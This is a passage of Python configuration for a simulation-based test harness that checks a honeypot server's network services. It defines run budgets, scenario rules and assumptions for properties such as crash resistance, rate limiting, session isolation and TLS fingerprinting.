        "assumptions": ["interleavings finer than one delivered segment are not explored", "GOMAXPROCS=1 in workers (part of the design)"],
    },
}

def get(prop):
    return P.get(prop)

def site_of(sc):
    if not sc:
        return ""
    pr = (sc.get("params") or {}).get("proto")
    if pr:
        return pr
    return (sc.get("class") or "").split("/")[0]
