"""Per-property settings of the driver: budgets, evidence texts."""

COMMON_COMPONENTS = {
    "real": ["server.New/Run/handle/findService/peek+timeout wrappers", "event + pushers bus/filter/token chain",
             "listener/socket (over the simulated kernel)", "storage+badger (opened outside the bubble)"],
    "simulated": ["kernel TCP/UDP sockets (simnet)", "clock and timers (testing/synctest bubble)", "remote peers (scripted actors)"],
    "stub": ["capture channel (records events after the real filter chain)"],
}

def comp(real=(), stub=(), simulated=()):
    c = {k: list(v) for k, v in COMMON_COMPONENTS.items()}
    c["real"] += list(real)
    c["stub"] += list(stub)
    c["simulated"] += list(simulated)
    return c

P = {
    "C04": {
        "runs": {"quick": 20000, "thorough": 400000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = one generated dialogue (grammar-derived commands with scenario-unique tags) delivered under a seeded segmentation/pipelining/idle-gap choice, run twice in fresh simulated servers (as generated and as the one-command-per-segment lock-step baseline); distinct = distinct digest of the full step trace + event list + client transcript; non-trivial = the delivery contains at least one cut inside a command or two commands sharing a segment",
        "components": comp(real=["services ftp, smtp, redis, memcached, telnet, http, ldap, elasticsearch, eos, ethereum, docker, cwmp, ipp (TCP) and dns, tftp, snmp, memcached, counterstrike, echo, ntp (UDP through the real socket listener -> DummyUDPConn -> dispatcher): real handlers"]),
        "assumptions": ["interleavings finer than one delivered segment are not explored", "GOMAXPROCS=1 in workers (part of the design)"],
    },
    "C08": {
        "runs": {"quick": 24000, "thorough": 600000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = a generated port table (1-3 ports, tcp/udp, wildcard or specific address, 0-4 stub services each with or without a prefix detector) plus 1-4 interleaved clients whose first delivered segment, further segmentation, silence before the first byte and destination (configured / unconfigured port or address) are seeded; distinct = distinct trace digest; non-trivial = at least one connection reaches a port with >=2 services (ordered scan, possibly with peek)",
        "components": comp(real=["findService / compareAddr / peekConnection / timeoutConn"], stub=["stub services registered through services.Register (record invocation + bytes read)"]),
        "assumptions": ["'first bytes the client sent' = the bytes actually delivered before the peek returned (first segment, cut at 1024)", "tables are unambiguous (duplicates are C19's subject)"],
    },
    "C19": {
        "runs": {"quick": 16000, "thorough": 60000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = one generated configuration booted through the real Run(): either a table of 1-4 [[port]] entries using port and/or ports with strings from an alphabet of well-formed and malformed entries and service lists naming defined / undefined / wrongly-typed / duplicate services, or a parser sweep of 64 consecutive port numbers (thorough covers 0..65599 for tcp and udp); after boot every listened address and a fixed universe of other addresses is probed; distinct = distinct trace digest (listen log + probes); non-trivial = more than one entry or port string",
        "components": comp(real=["ToAddr, port table construction, compareAddr, AddAddress"], stub=["stub services"]),
        "assumptions": ["host names and literal 0.0.0.0/:: are not generated (DNS / statement silent)", "no schedule, clock or fault dimension: configuration exploration hosted by the simulator"],
    },
    "C06": {
        "runs": {"quick": 20000, "thorough": 500000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = a generated configuration of 1-3 capture channels and 0-4 filters (channel lists incl. unknown names and repeats, category/service regex lists or absent/empty lists) booted through the real Run(), with 1-3 interleaved sender actors putting events (category/service matching, non-matching, missing, non-string) on the bus handle services receive, optionally a real redis connection and a slow channel; run again with one channel removed; distinct = distinct trace digest; non-trivial = at least one filter configured",
        "components": comp(real=["eventbus fan-out, FilterChannel/RegexFilterFunc, TokenChannel, Run() channel/filter wiring", "redis service (event source)"], stub=["stub service that hands the bus handle to the harness"]),
        "assumptions": ["a missing or non-string category/service is matched as the empty string", "an empty expression list admits everything, like an absent one"],
    },
    "C07": {
        "runs": {"quick": 3000, "thorough": 300000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = the real file channel (max size 1024/4096/1 MiB) behind the real Run() wiring on a fresh temp dir, 1-3 interleaved sender actors whose line lengths are steered around the rotation boundary (incl. single lines larger than the limit and 500 KiB bursts), fake-clock gaps of 0/10 ms/999 ms/1 s/1.001 s/5 s between sends, optionally external removal/rename of the active file or of the directory, or an unwritable destination; distinct = distinct trace digest; non-trivial = at least one rotation happened",
        "components": comp(real=["pushers/file FileBackend + rotateFile on a real temp dir", "Run() channel/filter wiring, token decoration"], stub=["stub service handing the bus handle to the harness"], simulated=["external filesystem actor (remove/rename/rmdir)"]),
        "assumptions": ["power loss / torn writes are not simulated (the property speaks of flush interval, not crashes)", "after an external fault, events sent up to 2 s after it may be missing; everything later must be logged"],
        "stall_s": 120,
    },
    "C10": {
        "runs": {"quick": 24000, "thorough": 300000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = one rate-limited UDP service (tftp, memcached, snmp, counterstrike) receiving grammar-derived request datagrams (incl. multi-command memcached datagrams) from 1-3 source IPs over 1-3 source ports each, bursts of 1-200, fake-clock gaps between 0 and 25 minutes, optionally several datagrams released in one step; responses are the datagrams the simulated kernel carried back, timestamped on the fake clock; run again with the other sources' datagrams removed; distinct = distinct trace digest; non-trivial = more than 4 requests in the scenario",
        "components": comp(real=["services tftp, memcached, snmp, counterstrike + services.Limiter (x/time/rate on the fake clock)", "listener/socket UDP path, DummyUDPConn"]),
        "assumptions": ["window strictly shorter than the interval (10 min - 1 ms): a token bucket of burst 4 refilling 1 per 10 min cannot exceed 4 in it"],
    },
    "C01": {
        "runs": {"quick": 3000, "thorough": 400000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = 1-3 services of the registry (every director-less service in rotation) + an echo liveness port, 1-4 interleaved connections per service instance each carrying a grammar dialogue, a truncation/mutation of one (length fields, reordering, repetition, out-of-state commands) or raw bytes (<=64 KiB) under seeded segmentation, ended by close / reset / half-close / silence past the idle deadline / a stalled peer; distinct = distinct trace digest; non-trivial = several connections, a mutated input or a fault",
        "components": comp(real=["all 24 director-less services (real handlers)", "per-connection recover in server.handle"]),
        "assumptions": ["process-level outcomes (exit status, panic:/fatal error: banner, CPU seconds and RSS per step) are observed by the driver from outside the worker", "interleavings finer than one delivered segment only through same-step batch release and the build-time yield points", "race tier: a second binary built with -race; only map-vs-map races between handlers of one scenario that replay alone are violations"],
        "stall_s": 25,
        "rss_mb": 2500,
        "single_timeout": 240,
        "min_budget": 48,
        "race": True,
        "race_runs": {"quick": 6000, "thorough": 120000},
    },
    "C09": {
        "runs": {"quick": 4000, "thorough": 200000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = the hostile inputs of C01 (1-3 services, 1-3 interleaved connections each) ended by client close / reset / half-close / silence / a stalled peer, or a history of N in {1,2,3,10,50,200} sequential connections to one service (incl. FTP PASV/EPSV never connected to), followed by 10 simulated minutes on the fake clock; distinct = distinct trace digest; non-trivial = several connections, a fault, or a history",
        "components": comp(real=["all 24 director-less services (real handlers)", "timeoutConn 30 s idle deadline", "ftp passive listener (over simnet)"]),
        "assumptions": ["goroutines are attributed to the run by their synctest bubble id; only goroutines with honeytrap frames are counted", "heap retained per past connection is not asserted"],
        "stall_s": 25,
        "rss_mb": 2500,
        "single_timeout": 240,
        "min_budget": 48,
    },
    "C03": {
        "runs": {"quick": 12000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = 2-3 (history: up to 20) scripted sessions with distinct client addresses and session-unique tags on one instance of ldap/ftp/smtp/telnet/redis/memcached/http/tftp, interleaved at request/response granularity by the choice tape (thorough enumerates the tape systematically for a third of the runs) or run strictly one after the other, optionally one session reset mid-dialogue or idling while the others finish; every session is then re-run alone on a fresh server; distinct = distinct trace digest; non-trivial = at least two sessions",
        "components": comp(real=["services ldap, ftp, smtp, telnet, redis, memcached, http, tftp (one Servicer instance shared by all connections, as in production)"]),
        "assumptions": ["interleaving granularity = one command per scheduler step", "FTP transcripts are compared as line multisets (FEAT lists extensions in Go map order)"],
    },
    "C14": {
        "runs": {"quick": 20000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = 1-4 scripted TCP peers (client ISN from the boundary set {0,1,2^31-1,2^31,2^32-2,2^32-1} or random, decoded and undecoded destination ports, 0-4000 payload bytes in 1-8 in-order segments of even and odd lengths with seeded PSH placement, peers with an ARP entry or reachable through the gateway, several peers sharing one address) whose frames are interleaved by the choice tape into the simulated NIC consumed by the real Start() loop; peers acknowledge what they receive; one peer is re-run alone; distinct = distinct trace digest; non-trivial = at least two peers",
        "components": comp(real=["listener/canary: New, Start() receive loop, handleTCP, send, state table, socket, tcp/ipv4/ethernet marshalling (all real)"], simulated=["epoll + AF_PACKET syscalls, /proc/net/route, /proc/net/arp, interface table (simsys)"], stub=["independent Ethernet/IPv4/TCP decoder and checksum verifier in the harness"]),
        "assumptions": ["server ISN is drawn by the implementation from the seeded global math/rand (not steerable)", "sensor address is 127.0.0.1 (interface lo with a fixed hardware address)"],
    },
    "C02": {
        "runs": {"quick": 1600, "thorough": 200000},
        "budget_s": {"quick": 240, "thorough": 3300},
        "rule": "one scenario = a history of 1-60 link-layer frames (random bytes; Ethernet type; IPv4 IHL/version/total-length/fragment fields; TCP data offset 0-15 with 0-3 option bytes or longer random options, flag combinations, truncations; UDP length vs. actual; short ICMP; ARP; stray TCP segments; well-formed SYNs that make the listener transmit) or a SYN flood of up to 70,000 distinct 4-tuples with or without a 31 s gap (state-table reuse horizon), under one of four ARP/route configurations (peer known, via gateway, gateway without ARP entry, nothing), with clock advances and EINTR from epoll_wait, followed by a well-formed UDP probe; distinct = distinct trace digest; non-trivial = more than one frame",
        "components": comp(real=["listener/canary: New, Start() receive loop, ethernet/ipv4/tcp/udp/icmp/arp parsers, handleTCP/UDP/ICMP, state table, send (all real)"], simulated=["epoll + AF_PACKET syscalls, /proc/net/route, /proc/net/arp, interface table (simsys)"]),
        "assumptions": ["process death is observed by the driver (the receive loop has no recover)", "ARP frames are ignored by every reachable configuration (do_arp is not settable)"],
        "stall_s": 300,
        "single_timeout": 600,
    },
    "C20": {
        "runs": {"quick": 20000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = 1-4 scanning sources each sending one or two bursts of 1-150 probes (TCP SYN, UDP to ports without decoder, ICMP echo; single- and mixed-protocol; ports drawn with repetition from a small set; gaps of 0/10 ms/1 s/4 s inside a burst, 75-200 s between bursts) as frames into the simulated NIC, interleaved by the choice tape, then ten simulated minutes of observation on the fake clock; distinct = distinct trace digest; non-trivial = at least two sources",
        "components": comp(real=["listener/canary: Start() loop, handleTCP/UDP/ICMP knock queueing, knockDetector with its 5 s timer, UniqueSet (all real)"], simulated=["epoll + AF_PACKET syscalls, /proc tables (simsys)", "fake clock"]),
        "assumptions": ["for mixed-protocol bursts one event or one per protocol family are both accepted", "set semantics of the grouping container are exercised through the detector, not enumerated separately"],
    },
    "C12": {
        "runs": {"quick": 12000, "thorough": 150000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = one of ssh-simulator / ldap / ftp with a generated credential set (0-3 user:password pairs over {root,admin,guest,''} x {root,admin,123456,''}, optionally the wildcard and entries without separator; ftp has its fixed table) and 1-2 connections to the same service instance, each with 1-4 authentication attempts (ssh: real x/crypto/ssh client inside the bubble retrying passwords; ldap: simple binds with several DN spellings; ftp: USER/PASS) and a gated-operation probe before and after every attempt, interleaved by the choice tape; distinct = distinct trace digest; non-trivial = two connections",
        "components": comp(real=["services ssh-simulator (real x/crypto/ssh server handshake), ldap, ftp"], stub=["x/crypto/ssh client library as the peer, running inside the bubble over simnet"]),
        "assumptions": ["LDAP anonymous bind (empty DN and password) is answered with success and leaves the connection not logged in; its result code is not judged", "FTP PASS without parameter is a syntax error, not an attempt"],
    },
    "C13": {
        "runs": {"quick": 64, "thorough": 4000},
        "budget_s": {"quick": 280, "thorough": 3300},
        "min_per_worker": 2,
        "rule": "one scenario = one https server receiving 60 (thorough: 200) structurally generated ClientHellos (legacy version SSL3..TLS1.2, 1-40 suites incl. GREASE and SCSV, 0-20 extensions incl. unknown, repeated, GREASE and empty-bodied types, supported-groups with GREASE, 0-3 point formats, one of three server names or none; 15% are GREASE-only variants of an earlier hello) on separate connections, a few interleaved at a time, each under record-layer fragmentation x stream segmentation and followed by close / reset / reading the server flight; evaluations counts hellos; distinct = distinct trace digest; non-trivial = always (every scenario carries fragmentation and GREASE variants)",
        "components": comp(real=["services https + vendored services/ja3/crypto/tls (record layer, handshake reassembly, clientHello parser, JA3)"]),
        "assumptions": ["the JA3 reference is computed from the generated structure, not from the bytes", "duplicated types are never the two whose bodies JA3 reads"],
        "stall_s": 240,
        "single_timeout": 900,
        "min_budget": 40,
    },
    "C11": {
        "runs": {"quick": 10000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = 1-3 logged-in sessions on one ftp service instance, interleaved by the choice tape, each issuing 1-12 of CWD/CDUP/PWD/MKD/RMD/DELE/RNFR+RNTO/STOR/APPE/RETR/LIST/NLST/MDTM/SIZE/STAT (and X-variants) with path arguments built from {a, b, .., ., '', SENTINEL, secret.txt} (1-5 components, absolute/relative, trailing separator) or from a list of odd paths; transfers open passive data connections over the simulated transport, some reset mid-transfer; a sentinel tree with unique contents is planted beside the service root on the real temp filesystem; distinct = distinct trace digest; non-trivial = always (every session changes directories or touches paths)",
        "components": comp(real=["services/ftp (commands, passive sockets over simnet, TLS on the data connection), services/filesystem Htfs RealPath/ChangeDir on a real temp dir"], stub=["crypto/tls client on the data connection, inside the bubble"]),
        "assumptions": ["the root contains no symlinks leaving it (none are planted)", "path mapping is sequential logic; the simulator contributes interleaved sessions and transfer faults"],
    },
    "C05": {
        "runs": {"quick": 12000, "thorough": 400000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = one simulated run of one of four workloads - a segmented protocol dialogue (C04's generator, all protocols), hostile inputs to 1-3 services (C01's generator), a payload sweep of 16 connections/datagrams through echo, counterstrike or memcached (payloads cycle through all 256 single bytes, 2-byte strings, invalid UTF-8/NUL/control bytes, up to 64 KiB), or 12 UDP datagrams with such payloads through the raw listener's generic UDP handler - every event of which is checked against the invariants; distinct = distinct trace digest; non-trivial = more than one event",
        "components": comp(real=["event package (Payload, SourceAddr/DestinationAddr, MarshalJSON), all services and the raw listener as event producers"], simulated=["simsys for the raw-listener workload"]),
        "assumptions": ["restricted claim: MergeFrom keeps / CopyFrom overwrites and the exhaustive 2-byte enumeration of event.Payload are pure functions of their input and are NOT decided here", "a wildcard UDP socket reports :: as destination address"],
        "stall_s": 25,
        "rss_mb": 2500,
    },
    "C18": {
        "level": "fault_enumeration",
        "runs": {"quick": 240, "thorough": 6000},
        "budget_s": {"quick": 280, "thorough": 3300},
        "min_per_worker": 2,
        "rule": "one scenario = a restart history of 2-3 (thorough: 2-5) boots on one data directory with varying sets of enabled storage-backed services (ssh, ftp, smtp, ldap, agent); every boot is a separate OS process running the real start-up path; even scenario indices arm one of the 19 named crash points (token file: before create / created empty / written; every store write of key and certificate: before / after) in the first boot, in rotation, so a batch of 38 scenarios enumerates all of them; a quarter plant a token-file state (absent, empty, proper prefix) before the second boot; evaluations counts boots; distinct = distinct history digest; non-trivial = a crash fired, a token state was planted, or more than two boots",
        "components": comp(real=["server.New/WithDataDir/WithToken, storage + badger on a real directory, services ssh/ftp/smtp/ldap storage helpers, listener/agent key pair; real Run() in a bubble for observation"], stub=["x/crypto/ssh and crypto/tls clients as observers inside the bubble"], simulated=["process kill = os.Exit at a named crash point inserted around every store write by the build overlay"]),
        "assumptions": ["power loss (page-cache loss, torn badger value-log writes) is not simulated: the property speaks of the process being killed", "a token file removed or truncated between boots resets what 'first generated' means for the token"],
        "stall_s": 280,
        "single_timeout": 900,
        "min_budget": 30,
    },
    "C16": {
        "runs": {"quick": 20000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = one agent session (real libdisco Noise_NK client and server over a simulated stream) multiplexing 1-4 virtual connections (hello, 0-20 data messages of 0-65000 bytes with self-describing payloads, eof; IPv4 and IPv6 remote addresses, ports 1-65535) plus pings, UDP relay messages and data for unknown connections, interleaved message by message by the choice tape; every message is framed as three transport writes, as one, or with its body split in two; a quarter of the runs drop the agent after n messages; services behind are recording stubs in echo mode; distinct = distinct trace digest; non-trivial = at least two virtual connections",
        "components": comp(real=["listener/agent: serv loop, conn2 framing, messages codec, agentConnection, Connections; libdisco server and client (real handshake and encryption)"], stub=["stub echo service", "scripted agent built on the package's own message types"], simulated=["the TCP stream between agent and listener"]),
        "assumptions": ["the codec's round trip is exercised by the traffic that crosses the tunnel in both directions, not enumerated separately"],
    },
    "C15": {
        "runs": {"quick": 6000, "thorough": 300000},
        "budget_s": {"quick": 200, "thorough": 3300},
        "rule": "one scenario = http-proxy, copy (tcp or udp) or dns-proxy configured with the real forward director (host with or without port) and 1-3 clients each performing 1-4 exchanges: HTTP requests (7 methods, repeated header names, bodies up to 64 KiB, content-length or chunked, lock-step or pipelined, seeded segmentation) answered by a scripted backend inside the bubble with seeded segmentation of the reply; raw streams answered by a byte-transforming backend; datagrams / DNS queries answered by a UDP backend; a decoy backend on another address; optionally the backend refuses the connection or closes mid-reply; distinct = distinct trace digest; non-trivial = several clients or a segmented/pipelined request",
        "components": comp(real=["services http-proxy, copy, dns-proxy, ssh-proxy; director/forward (dial through the simulated kernel)"], stub=["scripted HTTP / raw / UDP backends and a decoy inside the bubble", "ssh mode (every sixth scenario): x/crypto/ssh server as backend and x/crypto/ssh clients as attackers, inside the bubble"]),
        "assumptions": ["ssh mode: one session channel per client; public-key authentication is not exercised", "Content-Length / Transfer-Encoding framing may be re-done by the proxy; everything else of a message must be unchanged"],
    },
}

def get(prop):
    return P.get(prop)

def site_of(sc):
    if not sc:
        return ""
    pr = (sc.get("params") or {}).get("proto")
    if pr:
        return pr
    return (sc.get("class") or "").split("/")[0]
