#!/usr/bin/env python3
"""Writes /verif/MANIFEST.json from the table below (single source of truth for the interface)."""
import json, os
HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)

TECH = "deterministic simulation with fault injection: seeded scheduler over the real server in a synctest bubble on a simulated kernel (simnet), "

RAW = "deterministic simulation with fault injection: the real canary.New and Start() receive loop in a synctest bubble over simulated epoll/AF_PACKET syscalls and /proc tables (simsys), seeded frame scheduler, "

CHECKS = {
 "C04": dict(
   text="Seeded exploration: every generated dialogue (ftp, smtp incl. DATA/BDAT, redis, memcached, telnet, http) is run through the real server on the simulated transport under a scheduler-chosen segmentation / pipelining / idle-gap delivery and under the lock-step baseline; the ordered event lists must be equal and every command's expected event present exactly once in order. Fault class: in lock-step dialogues the client may be gone before the last reply can be written (close released in the same step as the last segment); the command still counts. Sampling, not proof.",
   ref="§3 C04", tech=TECH + "metamorphic (segmentation-invariance) + generator-as-oracle event history check",
   note="Trusts: simnet models in-order reliable byte streams; one delivered segment = one scheduler step (finer interleavings not explored); GOMAXPROCS=1 workers."),
 "C08": dict(
   text="Seeded exploration of generated port tables over stub services (with/without prefix detectors) and 1-4 interleaved clients on the simulated transport (TCP and UDP through the real socket listener; all-datagram scenarios release bursts to one socket in a single step): the stub actually invoked and the bytes it read until end of stream are compared with a reference model of the selection rule evaluated on the bytes the scheduler delivered before the peek returned; silent clients exercise the fake-clock 30 s peek/idle deadlines.",
   ref="§3 C08", tech=TECH + "reference-model oracle over recorded invocation history; fake clock for peek/idle timeouts",
   note="Trusts simnet's stream semantics; 'first bytes' = first delivered segment (cut at 1024); unambiguous tables only (duplicates belong to C19)."),
 "C19": dict(
   text="Configuration-space exploration hosted by the simulator: generated [[port]] tables (port/ports spellings, malformed strings, undefined/duplicate services, compatible addresses) are booted through the real Run(); the simulated kernel's listen table must equal a reference model of the statement, then probe connections check that unlistened addresses are refused and listened ones reach only the entry's first service. Includes the 0..65599 port-number sweep (complete in thorough).",
   ref="§3 C19", tech=TECH + "reference-model oracle over the simulated kernel's listen log + probe connections (no schedule/fault dimension: configuration exploration)",
   note="No schedule, clock or fault enters this property; host names and literal unspecified addresses are not generated."),
 "C06": dict(
   text="Seeded exploration of generated channel/filter configurations booted through the real Run() wiring: 1-3 interleaved sender actors (and a real redis connection) put events on the bus handle that services receive; per-channel delivery lists recorded by capture channels are compared with a reference model of the filter rule (counts per admitting filter occurrence, per-sender order, token on every event), with a slow-channel fault, and with the metamorphic check that removing one channel leaves the others' lists unchanged.",
   ref="§3 C06", tech=TECH + "reference-model oracle over per-channel delivery histories + metamorphic channel removal; slow-channel fault",
   note="The bus is a synchronous fan-out: the schedule dimension (interleaved senders, slow channel) is thin, the configuration x event dimension is what is explored."),
 "C07": dict(
   text="Seeded exploration of the real file channel behind the real Run() wiring on a real temp directory under the fake clock: 1-3 interleaved senders with line lengths steered around the rotation boundary (max size 1024/4096/1 MiB, single lines larger than the limit, 500 KiB bursts), flushes by timer or by size, several rotations within one simulated second, and an external actor that removes/renames the active file or the directory, or an unwritable destination; a third of the runs start on a log file left by an earlier run (restart). After quiescence every file is read back: every line must parse, the multiset of serials must equal the events sent (relaxed narrowly around external faults), no multi-line file may exceed the limit, rotated files never change once seen (checked after every step), every Send must have returned.",
   ref="§3 C07", tech=TECH + "durability/exactly-once oracle over the files read back + step invariant on rotated files + bounded-liveness of Send; external filesystem faults",
   note="Real file I/O on a temp dir (synchronous, deterministic); power loss and torn writes are not simulated."),
 "C10": dict(
   text="Seeded exploration of request histories against the four rate-limited UDP services through the real socket listener on the simulated kernel: bursts of 1-200 grammar-derived datagrams from 1-3 source IPs (IPv4 or IPv6) over several source ports with fake-clock gaps from 0 to 25 minutes (so buckets refill partially and fully). Invariant over the recorded history: in every window shorter than the limiter interval a source IP receives at most 4 response datagrams; metamorphic: a source's responses (count and times) are the same with and without the other sources' traffic. Flood class: a burst from a source never seen before is released within a step or two while the handlers give way to each other at synchronisation points (yield points, seeded).",
   ref="§3 C10", tech=TECH + "sliding-window invariant over the recorded response history on the fake clock + metamorphic source removal",
   note="x/time/rate reads the bubble's fake clock; responses are what the simulated kernel carried back (WriteToUDP)."),
 "C09": dict(
   text="Seeded exploration: hostile inputs to every director-less service (1-3 interleaved connections, grammar dialogues, mutations, raw bytes, real ssh sessions with hostile channel requests) ended by client close / reset / half-close / silence / a stalled peer, and histories of N<=200 sequential connections (incl. FTP passive sockets never connected to); afterwards the fake clock runs 10 simulated minutes. Checked: the server closed its side of every connection; the census of this run's goroutines with honeytrap frames (by creation site), the simulated kernel's listening sockets and the process's file descriptors equal the post-boot baseline; a handler that keeps spinning is caught by the driver's CPU watchdog.",
   ref="§3 C09", tech=TECH + "resource-census oracle (goroutines by creation site, simulated listening sockets, fds) after a fake-clock drain; bounded-liveness of handlers once the peer is gone",
   note="Goroutines are attributed to a run by synctest bubble id; retained heap is not asserted; CPU watchdog thresholds are in CPU seconds, far above legitimate steps."),
 "C01": dict(
   text="Seeded exploration: 1-3 services of the registry (all 24 director-less services in rotation) with 1-4 interleaved connections per service instance carrying grammar dialogues, truncations, mutations (length fields, reordering, repetition, out-of-state commands) or raw bytes under seeded segmentation - for the ssh services mostly real ssh sessions (x/crypto/ssh client inside the bubble: channels, channel requests with well-formed / truncated / lying / random payloads, data, many requests after a session start) - ended by close / reset / half-close / silence past the idle deadline / stalled peer. Oracles: the worker process survives (exit status and panic:/fatal error: banners are observed by the driver, which re-runs the seed alone in a fresh process and minimises it), no step exceeds the CPU/RSS budgets (runaway handlers), and a fresh connection to an echo port is still served afterwards. Race tier: a second worker binary built with -race runs one service instance with 2-4 connections (mostly well-formed 'twin' dialogues whose first requests are released in one step); a data race whose two accesses are both runtime map operations (one a write) between handlers of the same scenario - the precondition of the runtime's fatal 'concurrent map writes' - is a violation when it replays alone. Batch scenarios may use yield points (handlers give way at synchronisation points by seeded decision).",
   ref="§3 C01, R5", tech=TECH + "process-level crash/hang/memory oracle by a watching driver + in-simulation liveness probe + race detector as in-simulation monitor for same-step handlers; client reset/half-close/idle/stall faults",
   note="Budgets are in CPU seconds / RSS, orders of magnitude above legitimate steps; interleavings finer than a delivered segment only via same-step batch release and the build-time yield points (62 sites at synchronisation primitives); the race tier sees a conflict only when no synchronisation happens to order the two handlers."),
 "C03": dict(
   text="Seeded exploration of 2-3 (history: up to 20) scripted sessions with distinct client addresses and session-unique tags on one shared service instance (ldap, ftp incl. logged-in sessions with directory changes, smtp, telnet, redis, memcached, http, tftp), interleaved at request/response granularity by the choice tape (systematically enumerated for a third of the thorough runs), with idle and reset sessions, commands arriving in two pieces with other sessions' steps in between, and earlier sessions (some ending with QUIT) followed by interleaved ones. Oracles: solo-run equivalence (every session's transcript and the events carrying its address equal those of the same script alone on a fresh server) and tag ownership (no client receives, and no event attributed to it contains, another session's tag).",
   ref="§3 C03", tech=TECH + "metamorphic solo-run equivalence + tag-ownership oracle over interleaved session histories",
   note="Granularity: one command per scheduler step; FTP transcripts compared as line multisets with host temp paths masked."),
 "C02": dict(
   text="Seeded exploration of frame histories into the simulated NIC consumed by the real Start() receive loop (which has no recover): field-boundary frames for Ethernet/IPv4/TCP (data offset, option layouts)/UDP/ICMP/ARP, random bytes, stray segments, TCP histories on one 4-tuple (SYN, resets, acks, data, FIN, repeated SYN, acknowledging what the listener sent), SYN floods of up to 70,000 distinct 4-tuples inside and across the 30 s state-table reuse horizon, four ARP/route configurations (peer known / via gateway / gateway without ARP entry / nothing), clock advances and EINTR from epoll_wait. Oracles: the worker process survives (driver: exit status, banners, CPU budget) and a well-formed UDP probe sent after the history still yields its event with the exact payload.",
   ref="§3 C02", tech=RAW + "process-level crash oracle by the watching driver + in-simulation liveness probe; EINTR fault; table configurations",
   note="Kernel AF_PACKET delivery semantics (truncation, VLAN auxdata) are not simulated; do_arp is not settable so ARP frames are ignored by every reachable configuration."),
 "C14": dict(
   text="Seeded exploration: 1-4 scripted TCP peers (ISN boundary values and random, decoded/undecoded ports, 0-4000 bytes in 1-8 in-order segments of even and odd lengths, PSH placement, peers with ARP entry or behind the gateway, peers sharing an address) interleaved frame by frame by the choice tape into the simulated NIC; peers acknowledge what they receive; established connections may idle 30-55 s while others connect, and 'crossed' peers let the listener close first and send a FIN that still carries the older acknowledgement number; the handshake ACK may carry the first data segment. An independent decoder verifies every emitted frame (addressed back to the sender, IPv4 and TCP checksums, SYN-ACK acks ISN+1, every ACK equals ISN+1+bytes so far mod 2^32, FIN answered); the connection's event must carry the peer's addresses and a payload that is a prefix of the stream containing the first pushed segment; one peer is re-run alone and must see the same frames (relative sequence numbers).",
   ref="§3 C14", tech=RAW + "independent frame decoder/checksum verifier as history invariant + metamorphic solo-peer equivalence",
   note="Server ISN comes from the seeded global math/rand and is not steerable; retransmission, out-of-order and overlapping segments are outside the statement; the listener hands data to its handler on PSH/FIN and the handler waits 60 s per read, so content is not judged when the silence before a pushed segment reached 59 s."),
 "C20": dict(
   text="Seeded exploration: 1-4 scanning sources each sending one or two bursts of 1-150 TCP SYN / UDP / ICMP probes with repeated ports, interleaved by the choice tape as frames into the simulated NIC (fresh source port per probe, or one fixed source port per scanner with repeat scans overlapping the first); the fake clock drives the detector's 5 s timer (re-armed by every knock, so other sources starve it) and then runs ten simulated minutes. Oracle over all port-scan events: per source the union of listed ports equals the set probed, no pair is listed twice in an event or more often than the number of bursts containing it, a single burst is reported exactly once, sources are reported separately with the sensor as destination, nothing is reported again without new probes.",
   ref="§3 C20", tech=RAW + "set/exactly-once oracle over the recorded port-scan event history on the fake clock",
   note="Bursts are derived from the probes' actual simulated times (gap < 4.5 s same burst, > 11 s new burst, between: counts not judged); mixed-protocol bursts may yield one event or one per protocol family."),
 "C12": dict(
   text="Seeded exploration of generated credential sets and attempt sequences (up to 4 per connection, gated-operation probe before and after each) against ssh-simulator (real x/crypto/ssh client inside the bubble, retrying up to 10 passwords on one connection, sometimes after offering a public key), ldap (simple binds with several DN spellings, some with an unsupported protocol version; add/modify/delete/modify-dn/compare probes) and ftp (USER/PASS; file and directory commands), with a second (sometimes third) connection to the same service instance interleaved by the choice tape or run strictly after the first has left without unbind/QUIT. Reference model: success iff the pair (or the wildcard) is in the set, independent of history and of the other connection; exactly one authentication event per attempt carrying the presented password and the user as evaluated; gated operations refused until a success on this very connection.",
   ref="§3 C12", tech=TECH + "reference-model oracle over protocol replies and authentication events; interleaved second connection",
   note="Schedule dimension is thin (the second connection); LDAP anonymous bind result code is not judged; FTP has a fixed credential table."),
 "C13": dict(
   text="Seeded exploration with a structural ClientHello generator (the JA3 string and MD5 are computed from the generated structure per the JA3 specification, never by parsing bytes): hellos with legacy versions SSL3..TLS1.2, GREASE and GREASE look-alikes (0xXaYa, one-bit neighbours) and unassigned code points in suites/extensions/groups, unknown, repeated and empty-bodied extensions, 0-3 point formats and one of three server names are sent to the real https service on separate connections, a few interleaved at a time, under record-layer fragmentation x stream segmentation x client abort (close/reset) right after the hello; GREASE-only variants of earlier hellos must get the same digest. Every https event of the connection must carry the reference digest and the SNI sent.",
   ref="§3 C13", tech=TECH + "generator-as-oracle JA3 over events recorded under record fragmentation, stream segmentation and client-abort faults",
   note="The digest itself is a pure function of the hello; what the simulator decides is that the vendored TLS stack's record/handshake reassembly delivers the same hello to it under every fragmentation, segmentation and abort."),
 "C11": dict(
